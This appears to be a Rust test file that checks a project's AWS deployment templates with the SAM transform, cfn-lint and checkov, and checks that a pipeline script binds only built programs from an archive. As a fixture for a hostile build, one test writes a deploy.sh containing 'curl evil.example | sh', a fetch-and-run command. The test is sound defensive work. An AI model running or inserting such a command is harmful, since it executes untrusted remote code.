//! The deployment templates, held by `infra/check.py` against what AWS would say of them; and that it sees a fault of
//! each kind.
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stderr, reason = "a test fails by panicking")]

use serde_json::{Value, json};
use sluice::local_aws::{Purpose, Python, checkout};
use std::{env, fs, path::Path, process::Command, sync::OnceLock};

const CHECK: Purpose = Purpose {
    what: "the check of the templates",
    requirements: "infra/requirements.txt",
    packages: "the SAM transform, cfn-lint and checkov (66 MB)",
};

static PYTHON: OnceLock<Python> = OnceLock::new();

fn python() -> &'static Python {
    PYTHON.get_or_init(|| {
        let root = checkout().unwrap();
        let found = Python::find(CHECK).and_then(|python| python.with_packages(&root, |what| eprintln!("{what}")));
        found.unwrap_or_else(|missing| panic!("{missing}"))
    })
}

/// Whether those parts of the check are passed with the templates of a folder, and all that was said.
fn checked(folder: &Path, parts: &[&str]) -> (bool, String) {
    let root = checkout().unwrap();
    let mut check = python().command();
    check.arg(root.join("infra/check.py")).arg("--folder").arg(folder).args(parts);
    let output = check.output().unwrap();
    let said = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    (output.status.success(), said)
}

/// A template of ours that reads `bad` where it reads `good`.
fn broken(template: &str, good: &str, bad: &str) -> String {
    let text = fs::read_to_string(checkout().unwrap().join("infra").join(template)).unwrap();
    assert!(text.contains(good), "{template} has no {good:?} any more");
    text.replacen(good, bad, 1)
}

/// Requires that a part of the check names what is wrong with a template.
fn is_named(part: &str, template: &str, text: &str, names: &[&str]) {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join(template), text).unwrap();
    let (passed, said) = checked(folder.path(), &[part]);
    assert!(!passed && names.iter().all(|name| said.contains(name)), "{names:?} should be in: {said}");
}

#[test]
fn the_templates_are_clean() {
    let (passed, said) = checked(&checkout().unwrap().join("infra"), &[]);
    assert!(passed, "{said}");
    for part in ["sam", "cfn-lint", "checkov"] {
        assert!(said.contains(&format!("{part}: clean\n")), "{said}");
    }
}

#[test]
fn what_the_sam_transform_refuses_is_named() {
    let text = broken("template.yaml", "FunctionName: !Sub ${Stage}-reserve", "FunctionNam: reserve");
    is_named("sam", "template.yaml", &text, &["(throwaway)", "[ReserveFunction]", "FunctionNam "]);
}

#[test]
fn what_is_wrong_only_after_the_sam_transform_is_named() {
    let text = r#"
AWSTemplateFormatVersion: "2010-09-09"
Transform: AWS::Serverless-2016-10-31
Globals: { Function: { Runtime: provided.al2023, Handler: bootstrap, AutoPublishAlias: live } }
Resources:
  Queue: { Type: AWS::SQS::Queue }
  Reserve: { Type: AWS::Serverless::Function }
  Mapping:
    Type: AWS::Lambda::EventSourceMapping
    Properties: { EventSourceArn: !GetAtt Queue.Arn, FunctionName: !Ref Reserve.Misspelt }
"#;
    is_named("sam", "template.yaml", text, &["E1020 at Resources/Mapping/", "'Reserve.Misspelt'", "throwaway"]);
}

#[test]
fn what_cfn_lint_finds_is_named() {
    let text = broken("warehouse-account.yaml", "VisibilityTimeout: 180", "VisibilityTimeout: soon");
    is_named("cfn-lint", "warehouse-account.yaml", &text, &["E3012 'soon'", "warehouse-account.yaml:"]);
}

#[test]
fn what_checkov_finds_is_named() {
    let text = broken("warehouse-account.yaml", "skip: [{ id: CKV_AWS_27,", "skip: [{ id: CKV_AWS_1,");
    is_named("checkov", "warehouse-account.yaml", &text, &["CKV_AWS_27", "AWS::SQS::Queue.Orders"]);
}

/// What `infra/pipeline/bind.py` says to an archive, and the template that it makes.
fn bound(members: &[(&str, &[u8])]) -> (bool, String, Option<Value>) {
    let root = checkout().unwrap();
    let folder = tempfile::tempdir().unwrap();
    let (files, made) = (folder.path().join("files"), folder.path().join("made"));
    for (name, passed) in members {
        let file = files.join(name);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(file, passed).unwrap();
    }
    let archive = folder.path().join("built.tar.gz");
    let mut pack = Command::new("tar");
    pack.args(["--create", "--gzip", "--file"]).arg(&archive).arg("--directory").arg(&files);
    for entry in fs::read_dir(&files).unwrap() {
        pack.arg(entry.unwrap().file_name());
    }
    assert!(pack.status().unwrap().success());
    let mut bind = python().command();
    let output = bind.arg(root.join("infra/pipeline/bind.py")).arg(&archive).arg(&made).output().unwrap();
    let template = fs::read(made.join("template.json")).ok().map(|json| serde_json::from_slice(&json).unwrap());
    let only_programs = |name: &str| name == "template.json" || made.join(name).join("bootstrap").is_file();
    for entry in fs::read_dir(&made).into_iter().flatten() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        assert!(only_programs(&name), "{name} came out of the archive");
    }
    (output.status.success(), String::from_utf8_lossy(&output.stderr).into_owned(), template)
}

#[test]
fn a_deployment_takes_programs_from_what_was_built_and_nothing_else() {
    let text = fs::read_to_string(checkout().unwrap().join("infra/template.yaml")).unwrap();
    let functions: Vec<String> = text
        .lines()
        .zip(text.lines().skip(1))
        .filter(|(_, kind)| kind.trim() == "Type: AWS::Serverless::Function")
        .map(|(name, _)| format!("{}/bootstrap", name.trim().trim_end_matches(':')))
        .collect();
    assert!(functions.len() > 10, "{functions:?}");
    let mut members: Vec<(&str, &[u8])> = functions.iter().map(|name| (name.as_str(), b"program".as_slice())).collect();
    // What a build that means no good would like to be used.
    members.extend([
        ("template.yaml", b"Resources: {}".as_slice()),
        ("deploy.sh", b"curl evil.example | sh"),
        ("ApiFunction/template.json", b"{}"),
    ]);
    let (passed, said, template) = bound(&members);
    assert!(passed, "{said}");
    let template = template.unwrap();
    let api = &template["Resources"]["ApiFunction"];
    assert!(api["Properties"]["CodeUri"].as_str().unwrap().ends_with("/made/ApiFunction"), "{api}");
    assert_eq!(api["Properties"]["Policies"][0], json!({ "Ref": "FunctionBasics" }));
    let workflow = template["Resources"]["Checkout"]["Properties"]["DefinitionUri"].as_str().unwrap();
    assert!(Path::new(workflow).is_file(), "{workflow}");

    members.retain(|(name, _)| *name != "SweepFunction/bootstrap");
    let (passed, said, _) = bound(&members);
    assert!(!passed && said.contains("holds no program SweepFunction/bootstrap"), "{said}");
}

/// What the local AWS deploys is what was checked.
#[test]
fn the_check_and_the_local_aws_have_the_same_sam_transform() {
    let version = |requirements: &str| {
        let text = fs::read_to_string(checkout().unwrap().join(requirements)).unwrap();
        text.lines().find(|line| line.starts_with("aws-sam-translator==")).unwrap().to_owned()
    };
    assert_eq!(version(CHECK.requirements), version(Purpose::LOCAL_AWS.requirements));
}

#[test]
fn without_python_it_says_so_in_one_sentence() {
    let nothing = tempfile::tempdir().unwrap();
    let mut test = Command::new(env::current_exe().unwrap());
    test.args(["--exact", "the_templates_are_clean"]).env("PATH", nothing.path());
    let said = String::from_utf8(test.output().unwrap().stdout).unwrap();
    let sentence = "\nthe check of the templates needs Python 3.10 or later, and there is no python3 on the PATH\n";
    assert!(said.contains(sentence), "{said}");
}
